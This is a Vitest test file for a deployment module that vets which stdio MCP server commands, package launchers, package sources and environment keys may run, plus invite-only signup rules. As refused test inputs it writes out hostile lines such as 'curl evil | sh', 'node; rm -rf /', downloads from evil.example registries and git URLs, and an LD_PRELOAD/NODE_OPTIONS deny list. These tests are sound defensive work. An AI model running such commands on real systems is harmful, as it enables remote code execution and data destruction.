import { describe, expect, it } from "vitest";

import {
  allowedCommandSchema,
  checkStdioCommand,
  decideSignup,
  forbiddenEnvKey,
  parseAllowList,
  parseStdioCommand,
  sameAllowedCommand,
  signupModeFromEnv,
  type AllowedCommand,
} from "../src/deployment";

const allowList: AllowedCommand[] = [
  { kind: "executable", name: "node" },
  { kind: "executable", name: "/opt/mcp/bin/server" },
  { kind: "package", launcher: "npx", name: "@modelcontextprotocol/server-everything" },
  { kind: "package", launcher: "uvx", name: "mcp-server-fetch" },
  { kind: "package", launcher: "uvx", name: "httpx" },
  { kind: "package", launcher: "npm exec", name: "left-pad" },
  { kind: "package", launcher: "pipx run", name: "Some_Tool" },
];

const check = (command: string, args: string[] = [], extra: { envKeys?: string[]; teamStdioAllowed?: boolean } = {}) =>
  checkStdioCommand({
    command,
    args,
    allowList,
    teamStdioAllowed: extra.teamStdioAllowed ?? true,
    envKeys: extra.envKeys,
  });

describe("checkStdioCommand", () => {
  it("allows an allow-listed executable with any arguments, by exact name", () => {
    expect(check("node", ["server.js", "--port", "1"])).toMatchObject({
      allowed: true,
      command: { kind: "executable", name: "node" },
    });
    expect(check("/opt/mcp/bin/server")).toMatchObject({ allowed: true });
    expect(check("/usr/bin/node")).toMatchObject({
      allowed: false,
      reason: expect.stringMatching(/“\/usr\/bin\/node” is not on this deployment's list/),
    });
    expect(check("python3", ["-c", "print(1)"])).toMatchObject({ allowed: false });
  });

  it("refuses everything, allow-listed or not, for a team that may not run stdio servers", () => {
    expect(check("node", [], { teamStdioAllowed: false })).toEqual({
      allowed: false,
      reason: "This team may not run stdio servers; a deployment owner can allow it in the deployment settings.",
    });
  });

  it("allows an allow-listed npx package with or without a version and with -y before it", () => {
    for (const args of [
      ["-y", "@modelcontextprotocol/server-everything"],
      ["--yes", "@modelcontextprotocol/server-everything@2026.8.31", "stdio"],
      ["@modelcontextprotocol/server-everything@latest"],
      [
        "-y",
        "--prefer-offline",
        "@modelcontextprotocol/server-everything@^1.0.0",
        "--whatever-the-server-takes",
        "{{mode}}",
      ],
    ]) {
      expect(check("npx", args), args.join(" ")).toMatchObject({
        allowed: true,
        command: { kind: "package", launcher: "npx", packages: ["@modelcontextprotocol/server-everything"] },
      });
    }
  });

  it("refuses a package that is not allow-listed for that launcher", () => {
    expect(check("npx", ["-y", "@evil/server"])).toMatchObject({
      allowed: false,
      reason: expect.stringMatching(/“npx @evil\/server” is not on/),
    });
    // Allowed for npx, not for bunx: the entry names the launcher.
    expect(check("bunx", ["@modelcontextprotocol/server-everything"])).toMatchObject({ allowed: false });
  });

  it("refuses launcher options that change what runs or where it comes from", () => {
    const cases: Array<[string, string[], RegExp]> = [
      ["npx", ["-c", "curl evil | sh"], /option “-c” is not allowed/],
      ["npx", ["--call=sh"], /option “--call” is not allowed/],
      ["npx", ["--registry=https://evil.example", "@modelcontextprotocol/server-everything"], /“--registry”/],
      ["npx", ["--package=@modelcontextprotocol/server-everything", "sh", "-c", "id"], /“--package”/],
      ["npx", ["-p", "@modelcontextprotocol/server-everything", "sh"], /“-p”/],
      ["uvx", ["--from", "mcp-server-fetch", "python", "-c", "1"], /“--from”/],
      ["uvx", ["--index-url", "https://evil.example/simple", "mcp-server-fetch"], /“--index-url”/],
      ["pipx", ["run", "--spec", "git+https://evil.example/x", "some-tool"], /“--spec”/],
    ];
    for (const [command, args, reason] of cases)
      expect(check(command, args), args.join(" ")).toMatchObject({
        allowed: false,
        reason: expect.stringMatching(reason),
      });
  });

  it("refuses package sources that are not registry names", () => {
    for (const spec of [
      "github:evil/server",
      "evil/server",
      "git+https://evil.example/x.git",
      "./local",
      "/tmp/x.tgz",
      "https://evil.example/x.tgz",
      "file:../x",
    ]) {
      expect(check("npx", ["-y", spec]), spec).toMatchObject({
        allowed: false,
        reason: expect.stringMatching(/is not a npm package name/),
      });
    }
    expect(check("uvx", ["mcp-server-fetch @ https://evil.example/x.whl"])).toMatchObject({
      allowed: false,
      reason: expect.stringMatching(/not a PyPI package name/),
    });
  });

  it("checks every package uvx installs, and reads PyPI names and versions as pip does", () => {
    expect(check("uvx", ["--with", "httpx", "mcp-server-fetch==1.2.0"])).toMatchObject({
      allowed: true,
      command: { packages: ["mcp-server-fetch", "httpx"] },
    });
    expect(check("uvx", ["--with=requests", "mcp-server-fetch"])).toMatchObject({
      allowed: false,
      reason: expect.stringMatching(/uvx requests/),
    });
    expect(check("uv", ["tool", "run", "MCP_Server.Fetch@1.0"])).toMatchObject({
      allowed: true,
      command: { launcher: "uvx" },
    });
    expect(check("pipx", ["run", "some-tool[extra]>=1,<2"])).toMatchObject({
      allowed: true,
      command: { launcher: "pipx run", packages: ["some-tool"] },
    });
  });

  it("reads npm exec with its `--` separator and refuses other npm sub-commands", () => {
    expect(check("npm", ["exec", "--yes", "--", "left-pad@1.3.0", "x"])).toMatchObject({
      allowed: true,
      command: { launcher: "npm exec", packages: ["left-pad"] },
    });
    expect(check("npm", ["x", "left-pad"])).toMatchObject({ allowed: true });
    expect(check("npm", ["run", "start"])).toMatchObject({
      allowed: false,
      reason: "npm may only run allow-listed packages, through “npm exec <package>”.",
    });
    expect(check("uv", ["run", "script.py"])).toMatchObject({ allowed: false });
  });

  it("refuses placeholders where they would decide what runs, and keeps them after the package", () => {
    expect(check("{{cmd}}")).toMatchObject({
      allowed: false,
      reason: expect.stringMatching(/command cannot come from a setting/),
    });
    expect(check("npx", ["-y", "{{package}}"])).toMatchObject({
      allowed: false,
      reason: expect.stringMatching(/cannot come from a setting/),
    });
    expect(check("npx", ["{{flags}}", "@modelcontextprotocol/server-everything"])).toMatchObject({ allowed: false });
    expect(check("npx", ["-y"])).toMatchObject({
      allowed: false,
      reason: "Name the package npx runs as its first argument.",
    });
  });

  it("refuses a command with arguments written into it", () => {
    expect(check("npx -y @modelcontextprotocol/server-everything")).toMatchObject({
      allowed: false,
      reason: expect.stringMatching(/put its arguments in the argument list/),
    });
  });

  it("refuses environment fields that change what the program loads", () => {
    for (const key of [
      "NODE_OPTIONS",
      "LD_PRELOAD",
      "npm_config_registry",
      "UV_INDEX_URL",
      "PYTHONPATH",
      "PATH",
      "PIP_INDEX_URL",
    ]) {
      expect(forbiddenEnvKey(key), key).toBe(true);
      expect(check("node", [], { envKeys: ["API_KEY", key] })).toMatchObject({
        allowed: false,
        reason: expect.stringContaining(key),
      });
    }
    expect(check("node", [], { envKeys: ["API_KEY", "GITHUB_TOKEN", "NODE_ENV"] })).toMatchObject({ allowed: true });
  });
});

describe("parseStdioCommand", () => {
  it("reads a plain program as an executable whatever its arguments", () => {
    expect(parseStdioCommand("mcp-server-everything", ["--mode", "{{mode}}"])).toEqual({
      ok: true,
      command: { kind: "executable", name: "mcp-server-everything" },
    });
  });
});

describe("allow-list entries", () => {
  it("refuses launchers as executables, shell syntax and package names with versions", () => {
    expect(allowedCommandSchema.safeParse({ kind: "executable", name: "npx" }).success).toBe(false);
    expect(allowedCommandSchema.safeParse({ kind: "executable", name: "/usr/local/bin/uv" }).success).toBe(false);
    expect(allowedCommandSchema.safeParse({ kind: "executable", name: "node; rm -rf /" }).success).toBe(false);
    expect(allowedCommandSchema.safeParse({ kind: "executable", name: "/opt/../bin/sh" }).success).toBe(false);
    expect(allowedCommandSchema.safeParse({ kind: "package", launcher: "npx", name: "left-pad@1.0.0" }).success).toBe(
      false,
    );
    expect(allowedCommandSchema.safeParse({ kind: "package", launcher: "npx", name: "@scope/pkg" }).success).toBe(true);
    expect(allowedCommandSchema.safeParse({ kind: "package", launcher: "uvx", name: "mcp-server-fetch" }).success).toBe(
      true,
    );
    expect(allowedCommandSchema.safeParse({ kind: "package", launcher: "sh", name: "x" }).success).toBe(false);
  });

  it("drops stored entries that no longer parse, and compares packages by normalised name", () => {
    expect(
      parseAllowList([{ kind: "executable", name: "node" }, { kind: "executable", name: "npx" }, "junk", null]),
    ).toEqual([{ kind: "executable", name: "node" }]);
    expect(parseAllowList({ not: "a list" })).toEqual([]);
    expect(
      sameAllowedCommand(
        { kind: "package", launcher: "uvx", name: "Mcp_Server.fetch" },
        { kind: "package", launcher: "uvx", name: "mcp-server-fetch" },
      ),
    ).toBe(true);
    expect(
      sameAllowedCommand(
        { kind: "package", launcher: "uvx", name: "x" },
        { kind: "package", launcher: "pipx run", name: "x" },
      ),
    ).toBe(false);
  });
});

describe("decideSignup", () => {
  it("lets the first account in as deployment owner, whatever the mode", () => {
    expect(decideSignup({ mode: "invite_only", deploymentHasOwner: false, hasPendingInvitation: false })).toEqual({
      allowed: true,
      becomesDeploymentOwner: true,
    });
  });

  it("needs a pending invitation in invite-only mode, and nothing in open mode", () => {
    expect(decideSignup({ mode: "invite_only", deploymentHasOwner: true, hasPendingInvitation: false })).toMatchObject({
      allowed: false,
      reason: expect.stringMatching(/by invitation only/),
    });
    expect(decideSignup({ mode: "invite_only", deploymentHasOwner: true, hasPendingInvitation: true })).toEqual({
      allowed: true,
      becomesDeploymentOwner: false,
    });
    expect(decideSignup({ mode: "open", deploymentHasOwner: true, hasPendingInvitation: false })).toEqual({
      allowed: true,
      becomesDeploymentOwner: false,
    });
  });

  it("reads the operator's SIGNUP_MODE spelling", () => {
    expect(signupModeFromEnv("invite-only")).toBe("invite_only");
    expect(signupModeFromEnv("open")).toBe("open");
    expect(signupModeFromEnv(undefined)).toBeUndefined();
  });
});
